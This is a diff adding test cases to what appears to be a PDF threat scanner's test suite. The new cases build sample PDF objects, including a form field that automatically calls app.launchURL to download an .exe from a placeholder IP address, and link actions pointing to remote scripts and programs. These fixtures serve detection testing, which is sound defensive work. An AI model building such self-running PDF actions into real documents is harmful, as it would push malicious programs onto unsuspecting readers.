@@ -44,6 +44,19 @@ suite('an action', () => {
     ['opens a web page by itself', open('<< /S /URI /URI (https://a.example/) >>'), ['RemoteAction']],
     ['loads a program by itself', open('<< /S /URI /URI (https://a.example/b.exe?c=1) >>'), ['AutomaticProgram!']],
     [
+      'leads to a script on a server without a name',
+      click('<< /S /URI /URI (http://192.0.2.1/a.js) >>'),
+      ['ProgramLink'],
+    ],
+    [
+      'calculates a field by itself',
+      pdf([
+        catalog(`/OpenAction ${js('this.calculateNow()')}`),
+        `<< /FT /Tx /T (a) /AA << /C ${js('app.launchURL("http://192.0.2.1/" + "a.exe")')} >> >>`,
+      ]),
+      ['AutomaticProgram!', '(JavaScript)', '(AutoScript)'],
+    ],
+    [
       'opens a page of a server program by itself',
       open('<< /S /URI /URI (https://a.example/b.dll) >>'),
       ['RemoteAction'],
